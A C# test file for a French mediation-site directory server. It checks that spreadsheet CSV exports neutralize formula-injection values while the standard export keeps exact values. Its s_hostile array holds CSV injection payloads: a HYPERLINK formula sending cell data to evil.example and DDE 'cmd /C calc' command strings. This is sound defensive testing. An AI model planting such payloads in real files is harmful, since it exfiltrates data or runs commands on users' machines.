using System.Net;
using ScoranInclusion.Domain.Sites;
using ScoranInclusion.Domain.Text;
using ScoranInclusion.Server.Cli;
using ScoranInclusion.Server.Tests.Support;

namespace ScoranInclusion.Server.Tests.Exports;

/// <summary>
/// CSV formula injection: places whose texts a spreadsheet would run as formulas, imported into
/// an empty base, then every CSV the server serves. The spreadsheet CSVs (couverture.csv,
/// lieux-tableur.csv) neutralize them; lieux.csv keeps the standard's exact values.
/// </summary>
public sealed class SpreadsheetCsvTests : IAsyncLifetime, IDisposable
{
    private static readonly string[] s_hostile =
    [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Cliquez ici\")",
        "+SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "=1+1\tfin",
    ];

    private readonly ScoranServerFactory _server = new();

    public async Task InitializeAsync()
    {
        // An empty base with only the hostile places: every commune's nearest place is one of them.
        _server.Settings["Storage:SeedOnStart"] = "false";
        var rows = s_hostile.Select((name, i) => new Dictionary<string, string>
        {
            [SiteFields.Id] = $"hostile-{i}",
            [SiteFields.Pivot] = "00000000000000",
            [SiteFields.Nom] = name,
            [SiteFields.Commune] = "Dijon",
            [SiteFields.CodePostal] = "21000",
            [SiteFields.CodeInsee] = "21231",
            [SiteFields.Adresse] = name,
            [SiteFields.ComplementAdresse] = "-1+1",
            [SiteFields.Latitude] = (47.32 + (i * 0.01)).ToString(System.Globalization.CultureInfo.InvariantCulture),
            [SiteFields.Longitude] = "5.04",
            [SiteFields.PresentationResume] = "@" + name,
            [SiteFields.DateMaj] = "2025-01-02",
            [SiteFields.Services] = "Aide aux démarches administratives",
        });
        var csv = string.Join(',', SiteFields.All) + "\n"
            + string.Concat(rows.Select(r => string.Join(',', SiteFields.All.Select(f => CsvCell.Escape(r.GetValueOrDefault(f, "")))) + "\n"));
        var file = Path.Combine(_server.DataFolder, "hostiles.csv");
        await File.WriteAllTextAsync(file, csv);
        using var output = new StringWriter();
        var code = await CliVerbs.RunAsync(
            ["import", file, $"--ConnectionStrings:Scoran=Data Source={_server.DatabaseFile}", $"--Geodata:Directory={RepoPaths.Geodata}", "--Storage:SeedOnStart=false"],
            output, output);
        Assert.True(code == 0, output.ToString());
    }

    public async Task DisposeAsync() => await _server.DisposeAsync();

    public void Dispose() => _server.Dispose();

    [Fact]
    public async Task The_coverage_csv_neutralizes_every_formula_like_cell()
    {
        var records = await GetCsvAsync("/exports/couverture.csv?departement=21");

        var header = records[0];
        var lieuNom = header.ToList().IndexOf("lieu_nom");
        Assert.True(records.Count > 600, records.Count.ToString(System.Globalization.CultureInfo.InvariantCulture));
        Assert.All(records.Skip(1), r => Assert.Contains(r[lieuNom], s_hostile.Select(h => "'" + h)));
        AssertNoFormula(records);
        Assert.All(records.Skip(1), r => Assert.True(double.TryParse(r[header.ToList().IndexOf("distance_lieu_m")], System.Globalization.CultureInfo.InvariantCulture, out _)));
    }

    [Fact]
    public async Task The_spreadsheet_variant_of_lieux_csv_neutralizes_and_lieux_csv_keeps_exact_values()
    {
        var exact = await GetCsvAsync("/exports/lieux.csv");
        var safe = await GetCsvAsync("/exports/lieux-tableur.csv?commune=21231");

        Assert.Equal(SiteFields.All, safe[0]);
        Assert.Equal(exact.Count, safe.Count);
        AssertNoFormula(safe);
        var nom = SiteFields.All.ToList().IndexOf(SiteFields.Nom);
        Assert.Equal(s_hostile.Order(StringComparer.Ordinal), exact.Skip(1).Select(r => r[nom]).Order(StringComparer.Ordinal));
        for (var row = 1; row < exact.Count; row++)
        {
            for (var column = 0; column < SiteFields.All.Count; column++)
            {
                Assert.Equal(CsvCell.Neutralize(exact[row][column]), safe[row][column]);
            }
        }

        // The exact file still imports back to the same names.
        Assert.Contains(exact.Skip(1), r => r[nom].StartsWith('='));
    }

    [Fact]
    public async Task The_spreadsheet_variant_has_its_own_file_name_and_the_licence()
    {
        using var client = _server.CreateClient();
        using var response = await client.GetAsync(new Uri("/exports/lieux-tableur.csv", UriKind.Relative));

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv; charset=utf-8", response.Content.Headers.ContentType!.ToString());
        Assert.Matches(@"^\d{4}-\d\d-\d\d_ScoranInclusion_lieux-de-mediation-numerique_Bourgogne-Franche-Comte_tableur\.csv$",
            response.Content.Headers.ContentDisposition!.FileNameStar ?? response.Content.Headers.ContentDisposition.FileName!.Trim('"'));
        Assert.Contains("rel=\"license\"", response.Headers.GetValues("Link").Single(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_pages_link_the_spreadsheet_variant_and_say_why_lieux_csv_is_exact()
    {
        using var client = _server.CreateClient();
        var html = await client.GetStringAsync(new Uri("/lieux", UriKind.Relative));

        Assert.Contains("href=\"/exports/lieux-tableur.csv\"", html, StringComparison.Ordinal);
        Assert.Contains("href=\"/exports/lieux.csv\"", html, StringComparison.Ordinal);
        Assert.Contains("valeurs exactes", html, StringComparison.Ordinal);
    }

    private static void AssertNoFormula(List<IReadOnlyList<string>> records)
    {
        foreach (var record in records)
        {
            Assert.All(record, cell => Assert.False(CsvCell.IsFormulaLike(cell), cell));
        }
    }

    private async Task<List<IReadOnlyList<string>>> GetCsvAsync(string path)
    {
        using var client = _server.CreateClient();
        using var response = await client.GetAsync(new Uri(path, UriKind.Relative));
        var text = await response.Content.ReadAsStringAsync();
        Assert.True(response.StatusCode == HttpStatusCode.OK, text);
        return [.. CsvRecordReader.ReadStrict(new StringReader(text)).Select(r => r.Fields)];
    }
}
